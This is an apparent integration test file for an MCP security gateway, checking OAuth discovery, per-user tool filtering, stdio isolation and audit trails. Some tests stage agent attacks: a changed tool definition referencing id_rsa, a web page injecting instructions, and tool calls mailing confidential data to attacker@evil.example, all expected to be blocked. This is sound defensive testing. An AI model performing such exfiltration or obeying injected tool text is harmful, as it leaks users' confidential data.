// The MCP gateway end to end (issue 6): the real `ztgate serve` between
// agents built on the official MCP TypeScript SDK (node/mcp_agent.mjs) and
// SDK-built tool servers (node/mcp_server.mjs: `docs` and `web` over
// Streamable HTTP, `mail` as a stdio child of the gateway), with agents
// authenticated by a client_credentials authorization server
// (node/oauth_as.mjs) through RFC 9728 discovery. Policies are the shipped
// examples/mcp/policies.cedar (plus one test grant, kTestPolicies).
//
// Covered: discovery and audience-bound tokens; tool lists filtered per
// principal; allowed, denied and argument-conditioned calls; the agent's
// token never reaching a tool server; the stdio child's clean environment
// and its restart; a rug pull blocked until `ztgate tools approve`; the
// lethal trifecta (confidential read + untrusted content -> no sending) while
// the agent's other work goes on; prompts and resources; sessions bound to
// their principal.
//
// One set of peers per test process (SetUpTestSuite): ctest runs each test
// as its own process, a plain run shares them, so every test leaves the
// peers as it found them (the rug-pull test approves the original back).
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>

#include <boost/json.hpp>

#include <algorithm>
#include <chrono>
#include <set>
#include <thread>

#include "child_process.h"
#include "itest_support.h"
#include "raw_http.h"

namespace ztgate {
namespace {

namespace json = boost::json;
using itest::run_process;

constexpr const char* kDocsToken = "docs-secret";
constexpr const char* kGatewaySecret = "gateway-only-secret-value";
constexpr const char* kClients =
    R"({"alice":{"secret":"alice-secret","groups":["finance"]},"bob":{"secret":"bob-secret","groups":["interns"]}})";

// Test-only policies: alice may call mail__crash (the restart test needs a
// tool that kills the stdio server; no example policy permits it), and
// interns are kept from tools with a flagged definition.
constexpr const char* kTestPolicies = R"(
@id("itest-alice-may-crash-mail")
permit (principal == User::"alice", action == Action::"call_tool", resource == Tool::"mail__crash");

// Customer records come back with personal data redacted (output DLP).
@id("itest-customer-records-redacted")
@redact("pii")
permit (principal == User::"alice", action == Action::"call_tool", resource == Tool::"docs__read_document")
when { context has tool && context.tool has args && context.tool.args has id && context.tool.args.id like "customer-*" };

// Mail about customers: the mail server gets tokens for personal data, the
// agent's answer has the values back (reversible pseudonymization).
@id("itest-customer-mail-pseudonymized")
@pseudonymize("pii")
permit (principal == User::"alice", action == Action::"call_tool", resource == Tool::"mail__send_email")
when { context has tool && context.tool has args && context.tool.args has body && context.tool.args.body like "*pseudonymize-test*" };

// Tool poisoning, for interns: a tool whose definition reads as an
// injection is neither listed nor callable (the rug-pull test approves one).
@id("itest-no-poisoned-tools-for-interns")
forbid (principal in Group::"interns", action == Action::"call_tool", resource)
when { resource.description_flagged };
)";

// A port free right now (the gateway's port must be in its configuration:
// the resource and the token audience name it).
int free_port() {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = 0;
  socklen_t len = sizeof addr;
  if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 ||
      ::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) != 0) {
    ::close(fd);
    throw std::runtime_error("no free port");
  }
  ::close(fd);
  return ntohs(addr.sin_port);
}

std::string body_of(const std::string& raw) {
  size_t at = raw.find("\r\n\r\n");
  return at == std::string::npos ? "" : raw.substr(at + 4);
}

int status_of(const std::string& raw) {
  if (raw.rfind("HTTP/1.", 0) != 0 || raw.size() < 12) return 0;
  return std::stoi(raw.substr(9, 3));
}

// A response header's value (name lowercase), "" when absent.
std::string header_of(const std::string& raw, const std::string& name) {
  std::string head = raw.substr(0, raw.find("\r\n\r\n"));
  std::string lower = head;
  std::transform(lower.begin(), lower.end(), lower.begin(), [](unsigned char c) { return std::tolower(c); });
  size_t at = lower.find("\r\n" + name + ":");
  if (at == std::string::npos) return "";
  size_t start = at + 3 + name.size();
  size_t end = head.find("\r\n", start);
  std::string v = head.substr(start, end - start);
  v.erase(0, v.find_first_not_of(' '));
  return v;
}

// What one agent run did: its connect line and one line per step.
struct AgentRun {
  json::object connect;
  std::vector<json::object> steps;
  std::string output;
  const json::object& step(size_t i) const {
    if (i >= steps.size()) throw std::runtime_error("no step " + std::to_string(i) + " in: " + output);
    return steps[i];
  }
};

bool ok(const json::object& line) {
  const json::value* v = line.if_contains("ok");
  return v && v->is_bool() && v->as_bool();
}
json::value at(const json::object& o, std::string_view path) {
  const json::object* cur = &o;
  while (true) {
    size_t dot = path.find('.');
    const json::value* v = cur->if_contains(path.substr(0, dot));
    if (v == nullptr) return nullptr;
    if (dot == std::string_view::npos) return *v;
    if (!v->is_object()) return nullptr;
    cur = &v->as_object();
    path.remove_prefix(dot + 1);
  }
}
int64_t error_code(const json::object& line) {
  json::value v = at(line, "error.code");
  return v.is_int64() ? v.as_int64() : 0;
}
std::string str(const json::value& v) { return v.is_string() ? std::string(v.as_string()) : ""; }
// The text of a tool result's first content item.
std::string text_of(const json::object& line) {
  json::value content = at(line, "result.content");
  if (!content.is_array() || content.as_array().empty() || !content.as_array()[0].is_object()) return "";
  return str(content.as_array()[0].as_object().at("text"));
}
// The data inside a spotlighted text (the mail server's answers are
// untrusted_output: the example policies wrap them); "" when not wrapped.
std::string spotlit_data(const std::string& text) {
  if (text.rfind("\u00abuntrusted-data nonce=", 0) != 0) return "";
  size_t first = text.find('\n'), last = text.rfind('\n');
  return first == std::string::npos || last <= first ? "" : text.substr(first + 1, last - first - 1);
}
std::set<std::string> names(const json::object& line, const char* list, const char* key = "name") {
  std::set<std::string> out;
  json::value items = at(line, std::string("result.") + list);
  if (items.is_array())
    for (const auto& t : items.as_array()) out.insert(str(t.as_object().at(key)));
  return out;
}
json::object call(const std::string& name, json::object args) {
  return json::object{{"op", "call"}, {"name", name}, {"args", std::move(args)}};
}
json::object op(const std::string& name) { return json::object{{"op", name}}; }

struct Peers {
  std::filesystem::path dir;
  std::unique_ptr<itest::ChildProcess> as, docs, web, gateway;
  int as_port = 0, docs_port = 0, web_port = 0, port = 0;
  std::string setup_error;
};
Peers* peers = nullptr;

std::string node_script(const char* name) { return std::string(ZTGATE_ITEST_NODE_DIR) + "/" + name; }

void write_config(Peers& p) {
  std::string gw = "127.0.0.1:" + std::to_string(p.port);
  std::string as = "http://127.0.0.1:" + std::to_string(p.as_port);
  std::string src = ZTGATE_SOURCE_DIR;
  itest::write_file(
      p.dir / "ztgate.yaml",
      "data_dir: ./data\n"
      "gateway: {issuer: 'urn:ztgate:test', audience: ztgate, public_url: 'https://" + gw + "', explain_denials: true}\n"
      "identity:\n"
      "  issuers:\n"
      "    - {id: corp, issuer: '" + as + "', audience: 'http://" + gw + "/mcp', jwks_file: as-jwks.json}\n"
      "listeners: [{address: 127.0.0.1, port: " + std::to_string(p.port) + "}]\n"
      "policies:\n"
      "  schema: " + src + "/policies/ztgate.cedarschema\n"
      "  files: [" + src + "/examples/mcp/policies.cedar, test.cedar]\n"
      "  entities: [" + src + "/examples/mcp/entities.json]\n"
      // The gateway's connections to its MCP servers are egress decisions:
      // the example policy lets Service::"ztgate" reach zone mcp-servers,
      // and loopback is exempt from the SSRF floor for this test only.
      "egress:\n"
      "  zones: [{name: mcp-servers, hosts: ['127.0.0.1']}]\n"
      "  allow_addresses: ['127.0.0.1/32']\n"
      "mcp:\n"
      "  resource: 'http://" + gw + "/mcp'\n"
      "  authorization_servers: ['" + as + "']\n"
      "  catalog_ttl: 500ms\n"
      "  servers:\n"
      "    - id: docs\n"
      "      url: 'http://127.0.0.1:" + std::to_string(p.docs_port) + "/mcp'\n"
      "      token_env: DOCS_TOKEN\n"
      "      tools:\n"
      "        - {name: read_document, data_classification: confidential, untrusted_output: false}\n"
      "        - {name: search_docs, untrusted_output: false}\n"
      "    - {id: web, url: 'http://127.0.0.1:" + std::to_string(p.web_port) + "/mcp'}\n"
      "    - id: mail\n"
      "      command: ['" + itest::node_executable() + "', '" + node_script("mcp_server.mjs") + "', --persona, mail]\n"
      "      env: ['OUTBOX=" + (p.dir / "outbox.jsonl").string() + "']\n"
      "      tools:\n"
      "        - {name: send_email, sends_data: true}\n");
}

void start_peers(Peers& p) {
  p.dir = itest::fresh_work_dir("mcp_gateway");
  itest::write_file(p.dir / "test.cedar", kTestPolicies);
  // The gateway's environment: the docs credential, and a secret the stdio
  // child must not inherit. The CLI commands below read the same config.
  ::setenv("DOCS_TOKEN", kDocsToken, 1);
  ::setenv("SECRET_TOKEN", kGatewaySecret, 1);
  std::string node = itest::node_executable();
  p.as = std::make_unique<itest::ChildProcess>(std::vector<std::string>{
      node, node_script("oauth_as.mjs"), "--jwks", (p.dir / "as-jwks.json").string(), "--clients", kClients});
  p.as_port = std::stoi(p.as->wait_for_line("listening "));
  ::setenv("RUGPULL_FILE", (p.dir / "rug").string().c_str(), 1);
  p.docs = std::make_unique<itest::ChildProcess>(std::vector<std::string>{
      node, node_script("mcp_server.mjs"), "--persona", "docs", "--http", "--port", "0", "--token", kDocsToken, "--log",
      (p.dir / "docs.log").string()});
  p.docs_port = std::stoi(p.docs->wait_for_line("listening "));
  ::unsetenv("RUGPULL_FILE");
  p.web = std::make_unique<itest::ChildProcess>(
      std::vector<std::string>{node, node_script("mcp_server.mjs"), "--persona", "web", "--http", "--port", "0"});
  p.web_port = std::stoi(p.web->wait_for_line("listening "));
  // The port may be taken between free_port() and the gateway's bind: retry.
  for (int attempt = 0;; ++attempt) {
    p.port = free_port();
    write_config(p);
    p.gateway = std::make_unique<itest::ChildProcess>(
        std::vector<std::string>{ZTGATE_BINARY, "serve", "--config", (p.dir / "ztgate.yaml").string()});
    try {
      p.gateway->wait_for_line("ztgate listening on ");
      return;
    } catch (const std::exception&) {
      p.gateway.reset();
      if (attempt == 2) throw;
    }
  }
}

class McpGatewayTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    peers = new Peers();
    try {
      start_peers(*peers);
    } catch (const std::exception& e) {
      peers->setup_error = e.what();
    }
  }
  static void TearDownTestSuite() {
    delete peers;
    peers = nullptr;
  }
  void SetUp() override { ASSERT_TRUE(peers->setup_error.empty()) << peers->setup_error; }

  static const std::filesystem::path& dir() { return peers->dir; }
  static std::string mcp_url() { return "http://127.0.0.1:" + std::to_string(peers->port) + "/mcp"; }
  static std::string as_url() { return "http://127.0.0.1:" + std::to_string(peers->as_port); }

  // A token from the authorization server for `sub`, audience `aud` (default: the gateway).
  static std::string token(const std::string& sub, const std::string& aud = "") {
    auto raw = itest::http(peers->as_port, "GET /mint?sub=" + sub + "&aud=" + (aud.empty() ? mcp_url() : aud) +
                                               " HTTP/1.0\r\nHost: x\r\n\r\n");
    return std::string(json::parse(body_of(raw)).as_object().at("access_token").as_string());
  }

  // Runs the SDK agent with `steps` as one session. `auth`: a token, or
  // "oauth:<client>" for the SDK's discovery and client_credentials flow.
  static AgentRun agent(const std::string& auth, json::array steps) {
    static int runs = 0;
    json::object script{{"url", mcp_url()}, {"steps", std::move(steps)}};
    if (auth.rfind("oauth:", 0) == 0) {
      std::string client = auth.substr(6);
      script["oauth"] = json::object{{"client_id", client}, {"client_secret", client + "-secret"}, {"issuer", as_url()}};
    } else {
      script["token"] = auth;
    }
    auto path = dir() / ("agent-" + std::to_string(++runs) + ".json");
    itest::write_file(path, json::serialize(script));
    auto r = run_process({itest::node_executable(), node_script("mcp_agent.mjs"), path.string()}, std::chrono::seconds(30));
    EXPECT_EQ(r.exit_code, 0) << r.output;
    AgentRun run;
    run.output = r.output;
    std::istringstream in(r.output);
    for (std::string line; std::getline(in, line);) {
      if (line.empty() || line[0] != '{') continue;
      auto o = json::parse(line).as_object();
      if (run.connect.empty() && str(o["op"]) == "connect") run.connect = o;
      else run.steps.push_back(std::move(o));
    }
    return run;
  }

  static itest::ProcessResult cli(std::vector<std::string> args) {
    args.insert(args.begin(), ZTGATE_BINARY);
    args.push_back("--config");
    args.push_back((dir() / "ztgate.yaml").string());
    return run_process(args, std::chrono::seconds(20));
  }

  // Sealed audit records (newest first) matching the `ztgate audit query`
  // filters, waiting up to 3 s until `want` records match.
  static std::vector<json::object> audit(std::vector<std::string> filters, size_t want = 1) {
    std::vector<json::object> out;
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(3);
    for (;;) {
      std::vector<std::string> args{"audit", "query", "--format", "jsonl", "--limit", "500"};
      args.insert(args.end(), filters.begin(), filters.end());
      auto r = cli(args);
      out.clear();
      std::istringstream in(r.output);
      for (std::string line; std::getline(in, line);)
        if (!line.empty() && line[0] == '{') out.push_back(json::parse(line).as_object());
      if (out.size() >= want || std::chrono::steady_clock::now() > deadline) return out;
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
  }

  static std::vector<json::object> outbox() {
    std::vector<json::object> out;
    auto path = dir() / "outbox.jsonl";
    if (!std::filesystem::exists(path)) return out;
    std::istringstream in(itest::read_file(path));
    for (std::string line; std::getline(in, line);)
      if (!line.empty()) out.push_back(json::parse(line).as_object());
    return out;
  }
  static bool outbox_has(const std::string& to, const std::string& body) {
    for (const auto& m : outbox())
      if (str(m.at("to")) == to && str(m.at("body")) == body) return true;
    return false;
  }

  // A raw POST to the MCP endpoint.
  static std::string mcp_post(const std::string& body, const std::string& token, const std::string& session = "") {
    std::string req = "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/json\r\n"
                      "Accept: application/json, text/event-stream\r\n";
    if (!token.empty()) req += "Authorization: Bearer " + token + "\r\n";
    if (!session.empty()) req += "Mcp-Session-Id: " + session + "\r\n";
    return itest::http(peers->port, req + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
  }
};

constexpr const char* kInitialize =
    R"({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}})";
constexpr const char* kListTools = R"({"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}})";

TEST_F(McpGatewayTest, DiscoveryLeadsTheSdkToAnAudienceBoundToken) {
  // No token: 401 naming the protected-resource metadata (RFC 9728).
  auto raw = mcp_post(kInitialize, "");
  EXPECT_EQ(status_of(raw), 401) << raw;
  std::string metadata_url =
      "http://127.0.0.1:" + std::to_string(peers->port) + "/.well-known/oauth-protected-resource/mcp";
  EXPECT_EQ(header_of(raw, "www-authenticate"), "Bearer resource_metadata=\"" + metadata_url + "\"") << raw;

  auto meta_raw = itest::http(peers->port, "GET /.well-known/oauth-protected-resource/mcp HTTP/1.1\r\nHost: x\r\n"
                                           "Connection: close\r\n\r\n");
  ASSERT_EQ(status_of(meta_raw), 200) << meta_raw;
  auto meta = json::parse(body_of(meta_raw)).as_object();
  EXPECT_EQ(str(meta.at("resource")), mcp_url());
  EXPECT_EQ(json::serialize(meta.at("authorization_servers")), "[\"" + as_url() + "\"]");

  // The SDK follows that discovery: metadata, the AS, client_credentials
  // with resource = the gateway, then lists tools with the token it got.
  auto run = agent("oauth:alice", json::array{op("list")});
  ASSERT_TRUE(ok(run.connect)) << run.output;
  ASSERT_TRUE(ok(run.step(0))) << run.output;
  EXPECT_TRUE(names(run.step(0), "tools").count("docs__search_docs")) << run.output;

  // A valid token of the same AS for another audience is refused.
  std::string other = token("alice", "https://other.example/mcp");
  auto refused = mcp_post(kInitialize, other);
  EXPECT_EQ(status_of(refused), 401) << refused;
  EXPECT_NE(header_of(refused, "www-authenticate").find("error=\"invalid_token\""), std::string::npos) << refused;
  EXPECT_NE(header_of(refused, "www-authenticate").find("resource_metadata=\"" + metadata_url + "\""),
            std::string::npos)
      << refused;
  auto wrong = agent(other, json::array{op("list")});
  EXPECT_FALSE(ok(wrong.connect)) << wrong.output;
  EXPECT_EQ(error_code(wrong.connect), 401) << wrong.output;
}

TEST_F(McpGatewayTest, EachPrincipalSeesTheToolsItCouldCall) {
  // alice (finance): the read-only tools, every docs tool, mail__crash (the
  // test grant), and mail__send_email (an argument-conditioned permit: listed,
  // see AnArgumentConditionedToolIsListed). bob (interns): the
  // read-only tools only; delete_document is forbidden to interns, and no
  // policy permits send_email or crash to an intern.
  auto alice = agent(token("alice"), json::array{op("list")});
  ASSERT_TRUE(ok(alice.step(0))) << alice.output;
  std::set<std::string> alice_tools = names(alice.step(0), "tools");
  EXPECT_EQ(alice_tools, (std::set<std::string>{"docs__search_docs", "docs__read_document", "docs__delete_document",
                                                "web__fetch_page", "mail__check_env", "mail__crash",
                                                "mail__send_email"}))
      << alice.output;
  auto bob = agent(token("bob"), json::array{op("list")});
  ASSERT_TRUE(ok(bob.step(0))) << bob.output;
  EXPECT_EQ(names(bob.step(0), "tools"),
            (std::set<std::string>{"docs__search_docs", "docs__read_document", "web__fetch_page", "mail__check_env"}))
      << bob.output;
  // The listing carries the server's definition under the namespaced name.
  json::value tools = at(alice.step(0), "result.tools");
  bool found = false;
  for (const auto& t : tools.as_array()) {
    if (str(t.as_object().at("name")) != "docs__delete_document") continue;
    found = true;
    EXPECT_EQ(at(t.as_object(), "annotations.destructiveHint"), json::value(true)) << json::serialize(t);
    EXPECT_EQ(at(t.as_object(), "description"), "Delete a document by id.") << json::serialize(t);
  }
  EXPECT_TRUE(found);
}

// The listing rule (docs/MCP.md): alice may call mail__send_email for some
// arguments (the "mail-to-colleagues" permit reads them), so it is listed;
// no permit can ever apply to bob, so it is not.
TEST_F(McpGatewayTest, AnArgumentConditionedToolIsListed) {
  auto alice = agent(token("alice"), json::array{op("list")});
  ASSERT_TRUE(ok(alice.step(0))) << alice.output;
  EXPECT_TRUE(names(alice.step(0), "tools").count("mail__send_email")) << alice.output;
  auto bob = agent(token("bob"), json::array{op("list")});
  EXPECT_FALSE(names(bob.step(0), "tools").count("mail__send_email")) << bob.output;
}

TEST_F(McpGatewayTest, CallsAreDecidedOnTheirRealArguments) {
  std::string alice = token("alice"), bob = token("bob");
  auto a = agent(alice, json::array{call("docs__search_docs", {{"query", "budget"}}),
                                    call("mail__send_email", {{"to", "bob@example.com"}, {"body", "calls-test-ok"}}),
                                    call("mail__send_email", {{"to", "someone@evil.example"}, {"body", "calls-test-evil"}}),
                                    call("docs__no_such_tool", {})});
  ASSERT_TRUE(ok(a.connect)) << a.output;
  EXPECT_TRUE(ok(a.step(0))) << a.output;
  EXPECT_EQ(text_of(a.step(0)), "results for budget: q3-report, handbook");
  EXPECT_TRUE(ok(a.step(1))) << a.output;
  EXPECT_EQ(text_of(a.step(1)), "sent to bob@example.com");
  EXPECT_FALSE(ok(a.step(2))) << a.output;
  EXPECT_EQ(error_code(a.step(2)), -32001) << a.output;
  EXPECT_EQ(at(a.step(2), "error.data.ztgate.code"), "forbidden") << a.output;
  EXPECT_FALSE(ok(a.step(3))) << a.output;  // unknown tools are not forwarded anywhere
  EXPECT_TRUE(outbox_has("bob@example.com", "calls-test-ok"));
  EXPECT_FALSE(outbox_has("someone@evil.example", "calls-test-evil"));

  auto b = agent(bob, json::array{call("docs__delete_document", {{"id", "q3-report"}}),
                                  call("docs__read_document", {{"id", "handbook"}})});
  ASSERT_TRUE(ok(b.connect)) << b.output;
  EXPECT_FALSE(ok(b.step(0))) << b.output;
  EXPECT_EQ(error_code(b.step(0)), -32001) << b.output;
  EXPECT_EQ(at(b.step(0), "error.data.ztgate.code"), "forbidden") << b.output;
  EXPECT_NE(json::serialize(at(b.step(0), "error.data.ztgate.policies")).find("no-destructive-tools-for-interns"),
            std::string::npos)
      << b.output;
  EXPECT_TRUE(ok(b.step(1))) << b.output;

  auto denied = audit({"--action", "call_tool", "--decision", "deny", "--resource", "Tool::\"docs__delete_document\""});
  ASSERT_FALSE(denied.empty());
  EXPECT_EQ(at(denied[0], "unmapped.principal"), "User::\"bob\"") << json::serialize(denied[0]);
}

TEST_F(McpGatewayTest, TheAgentsTokenNeverReachesAToolServer) {
  std::string alice = token("alice");
  auto run = agent(alice, json::array{call("docs__read_document", {{"id", "q3-report"}})});
  ASSERT_TRUE(ok(run.step(0))) << run.output;
  std::string log = itest::read_file(dir() / "docs.log");
  EXPECT_EQ(log.find(alice), std::string::npos);
  EXPECT_EQ(log.find("eyJ"), std::string::npos);  // no JWT at all
  std::istringstream in(log);
  int lines = 0;
  for (std::string line; std::getline(in, line); ++lines)
    EXPECT_EQ(str(json::parse(line).as_object().at("authorization")), std::string("Bearer ") + kDocsToken) << line;
  EXPECT_GT(lines, 0);
}

TEST_F(McpGatewayTest, TheGatewaysOwnConnectionsAreEgressDecisions) {
  // Every connection to an HTTP tool server was decided as egress for
  // Service::"ztgate" on the server's host, and recorded.
  auto run = agent(token("alice"), json::array{call("docs__search_docs", {{"query", "egress"}})});
  ASSERT_TRUE(ok(run.step(0))) << run.output;
  auto decided = audit({"--action", "egress", "--principal", "Service::\"ztgate\"", "--resource", "Host::\"127.0.0.1\""});
  ASSERT_FALSE(decided.empty());
  EXPECT_EQ(at(decided[0], "message"), "allow egress") << json::serialize(decided[0]);
  EXPECT_EQ(at(decided[0], "unmapped.adapter"), "egress") << json::serialize(decided[0]);
}

TEST_F(McpGatewayTest, StdioServersGetACleanEnvironmentAndAreRestarted) {
  std::string alice = token("alice");
  auto run = agent(alice, json::array{call("mail__check_env", {}), call("mail__crash", {}),
                                      json::object{{"op", "sleep"}, {"ms", 1500}}, call("mail__check_env", {}),
                                      json::object{{"op", "sleep"}, {"ms", 2500}}, call("mail__check_env", {})});
  ASSERT_TRUE(ok(run.connect)) << run.output;
  ASSERT_TRUE(ok(run.step(0))) << run.output;
  // The gateway's environment has DOCS_TOKEN and SECRET_TOKEN: neither arrives.
  EXPECT_EQ(spotlit_data(text_of(run.step(0))), "OUTBOX,PATH");
  EXPECT_FALSE(ok(run.step(1))) << run.output;
  EXPECT_EQ(error_code(run.step(1)), -32002) << run.output;
  EXPECT_EQ(at(run.step(1), "error.data.ztgate.code"), "mcp_upstream_unavailable") << run.output;
  // After the backoff (1 s) the next call starts the server again. On a
  // loaded machine the first try may still fall in the backoff (then it is
  // the same clear error); 2.5 s later it must work.
  if (!ok(run.step(3))) {
    EXPECT_EQ(at(run.step(3), "error.data.ztgate.code"), "mcp_upstream_unavailable") << run.output;
  }
  EXPECT_TRUE(ok(run.step(5))) << run.output;
  EXPECT_EQ(spotlit_data(text_of(run.step(5))), "OUTBOX,PATH");
}

TEST_F(McpGatewayTest, AChangedToolDefinitionIsBlockedUntilApproved) {
  std::string alice = token("alice");
  auto before = agent(alice, json::array{call("docs__search_docs", {{"query", "x"}})});
  ASSERT_TRUE(ok(before.step(0))) << before.output;
  auto intern_before = agent(token("bob"), json::array{op("list")});
  EXPECT_TRUE(names(intern_before.step(0), "tools").count("docs__search_docs")) << intern_before.output;

  // Waits until `ztgate tools pending` shows a change of docs/search_docs; its digests.
  auto wait_pending = [&]() -> json::object {
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
    for (;;) {
      auto r = cli({"tools", "pending", "--json"});
      EXPECT_EQ(r.exit_code, 0) << r.output;
      size_t brace = r.output.find('{');
      if (brace == std::string::npos) return {};
      json::value listed = json::parse(r.output.substr(brace));
      for (const auto& c : listed.as_object().at("pending").as_array())
        if (str(c.as_object().at("server")) == "docs" && str(c.as_object().at("tool")) == "search_docs")
          return c.as_object();
      if (std::chrono::steady_clock::now() > deadline) return {};
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
  };
  // Waits until a call of search_docs succeeds again (the next catalog refresh).
  auto wait_callable = [&]() {
    for (int i = 0; i < 10; ++i) {
      auto r = agent(alice, json::array{call("docs__search_docs", {{"query", "x"}})});
      if (!r.steps.empty() && ok(r.steps[0])) return true;
      std::this_thread::sleep_for(std::chrono::milliseconds(300));
    }
    return false;
  };

  // The rug pull: the server now describes search_docs differently.
  itest::write_file(dir() / "rug", "");
  json::object change = wait_pending();
  ASSERT_FALSE(change.empty()) << "no pending change of docs/search_docs";
  EXPECT_NE(str(at(change, "seen_definition.description")).find("id_rsa"), std::string::npos)
      << json::serialize(change);
  EXPECT_EQ(str(at(change, "pinned_definition.description")), "Search the company documents by keyword.");
  std::this_thread::sleep_for(std::chrono::milliseconds(700));  // > catalog_ttl: the gateway's catalog has it too

  auto blocked = agent(alice, json::array{op("list"), call("docs__search_docs", {{"query", "x"}})});
  ASSERT_TRUE(ok(blocked.step(0))) << blocked.output;
  EXPECT_FALSE(names(blocked.step(0), "tools").count("docs__search_docs")) << blocked.output;
  EXPECT_TRUE(names(blocked.step(0), "tools").count("docs__read_document")) << blocked.output;
  EXPECT_EQ(error_code(blocked.step(1)), -32003) << blocked.output;
  EXPECT_EQ(at(blocked.step(1), "error.data.ztgate.code"), "tool_blocked") << blocked.output;

  std::string digest = str(change.at("seen_digest"));
  auto approved = cli({"tools", "approve", "docs", "search_docs", "--digest", digest, "--by", "secops"});
  ASSERT_EQ(approved.exit_code, 0) << approved.output;
  EXPECT_TRUE(wait_callable()) << "search_docs still blocked after the approval";
  auto after = agent(alice, json::array{op("list")});
  EXPECT_TRUE(names(after.step(0), "tools").count("docs__search_docs")) << after.output;
  // The approved definition still reads as an injection (tool_description
  // channel): the policy on its verdict keeps it from interns.
  auto intern = agent(token("bob"), json::array{op("list"), call("docs__search_docs", {{"query", "x"}})});
  EXPECT_FALSE(names(intern.step(0), "tools").count("docs__search_docs")) << intern.output;
  EXPECT_TRUE(names(intern.step(0), "tools").count("docs__read_document")) << intern.output;
  EXPECT_EQ(error_code(intern.step(1)), -32001) << intern.output;

  auto changed = audit({"--action", "tool_definition_changed", "--resource", "Tool::\"docs__search_docs\""});
  ASSERT_FALSE(changed.empty());
  EXPECT_EQ(at(changed[0], "unmapped.details.digest"), json::value(digest)) << json::serialize(changed[0]);
  EXPECT_EQ(at(changed[0], "api.response.error"), "tool_blocked") << json::serialize(changed[0]);
  auto approvals = audit({"--action", "tool_definition_approved", "--resource", "Tool::\"docs__search_docs\""});
  ASSERT_FALSE(approvals.empty());
  EXPECT_EQ(at(approvals[0], "unmapped.details.digest"), json::value(digest)) << json::serialize(approvals[0]);
  EXPECT_EQ(at(approvals[0], "unmapped.details.by"), "secops") << json::serialize(approvals[0]);

  // Back to the original definition: a change from the pin like any other,
  // blocked until approved (the other tests need search_docs).
  std::filesystem::remove(dir() / "rug");
  json::object back = wait_pending();
  ASSERT_FALSE(back.empty());
  EXPECT_EQ(str(back.at("pinned_digest")), digest);
  auto restored = cli({"tools", "approve", "docs", "search_docs", "--digest", str(back.at("seen_digest")), "--by", "itest"});
  ASSERT_EQ(restored.exit_code, 0) << restored.output;
  EXPECT_TRUE(wait_callable());
}

TEST_F(McpGatewayTest, LethalTrifectaStopsTheHijackedAgentOnly) {
  // One session: confidential data, then a web page that carries an
  // injected instruction, then the hijacked agent tries to send.
  auto run = agent("oauth:alice",
                   json::array{call("docs__read_document", {{"id", "q3-report"}}),
                               call("web__fetch_page", {{"url", "https://news.example"}}),
                               call("mail__send_email", {{"to", "attacker@evil.example"}, {"body", "trifecta-q3"}}),
                               call("mail__send_email", {{"to", "carol@example.com"}, {"body", "trifecta-q3"}}),
                               call("docs__search_docs", {{"query", "q3"}})});
  ASSERT_TRUE(ok(run.connect)) << run.output;
  ASSERT_TRUE(ok(run.step(0))) << run.output;
  EXPECT_NE(text_of(run.step(0)).find("CONFIDENTIAL"), std::string::npos);
  ASSERT_TRUE(ok(run.step(1))) << run.output;
  EXPECT_NE(text_of(run.step(1)).find("attacker@evil.example"), std::string::npos);  // the injection
  for (size_t i : {2, 3}) {
    EXPECT_FALSE(ok(run.step(i))) << run.output;
    EXPECT_EQ(error_code(run.step(i)), -32001) << run.output;
  }
  // carol@example.com is an allowed address: only the session's history denies it.
  EXPECT_EQ(at(run.step(3), "error.data.ztgate.code"), "approval_required") << run.output;
  EXPECT_EQ(at(run.step(3), "error.data.ztgate.obligation"), "require_approval") << run.output;
  EXPECT_EQ(json::serialize(at(run.step(3), "error.data.ztgate.policies")), "[\"lethal-trifecta\"]") << run.output;
  // The legitimate task goes on.
  EXPECT_TRUE(ok(run.step(4))) << run.output;
  EXPECT_FALSE(outbox_has("attacker@evil.example", "trifecta-q3"));
  EXPECT_FALSE(outbox_has("carol@example.com", "trifecta-q3"));

  // Both refusals are in the trail (arguments are not recorded: payload_mode none).
  for (size_t i : {2, 3}) {
    std::string request_id = str(at(run.step(i), "error.data.ztgate.request_id"));
    ASSERT_FALSE(request_id.empty()) << run.output;
    auto records = audit({"--request-id", request_id, "--action", "call_tool", "--decision", "deny", "--resource",
                          "Tool::\"mail__send_email\"", "--principal", "User::\"alice\""});
    ASSERT_EQ(records.size(), 1u) << request_id;
    EXPECT_EQ(at(records[0], "policy.name"), "lethal-trifecta") << json::serialize(records[0]);
    EXPECT_EQ(at(records[0], "unmapped.decision.obligations.on_deny"), "require_approval")
        << json::serialize(records[0]);
    EXPECT_EQ(at(records[0], "api.response.error"), "approval_required") << json::serialize(records[0]);
  }

  // A fresh session of alice has seen no untrusted content: it may send.
  auto fresh = agent("oauth:alice", json::array{call("mail__send_email", {{"to", "carol@example.com"}, {"body", "fresh-q3"}})});
  EXPECT_TRUE(ok(fresh.step(0))) << fresh.output;
  EXPECT_TRUE(outbox_has("carol@example.com", "fresh-q3"));
}

// Tool answers are content: inspected, then decided on again. The example
// policies withhold an internal tool's answer that reads as an injection
// and pass open-world answers spotlighted (wrapped, datamarked).
TEST_F(McpGatewayTest, AnInjectedToolAnswerIsBlockedOrSpotlightedByPolicy) {
  auto run = agent("oauth:alice", json::array{call("docs__read_document", {{"id", "poisoned"}}),
                                              call("web__fetch_page", {{"url", "https://news.example"}}),
                                              call("docs__read_document", {{"id", "q3-report"}})});
  ASSERT_TRUE(ok(run.connect)) << run.output;
  EXPECT_FALSE(ok(run.step(0))) << run.output;
  EXPECT_EQ(error_code(run.step(0)), -32001) << run.output;
  EXPECT_EQ(at(run.step(0), "error.data.ztgate.code"), "forbidden") << run.output;
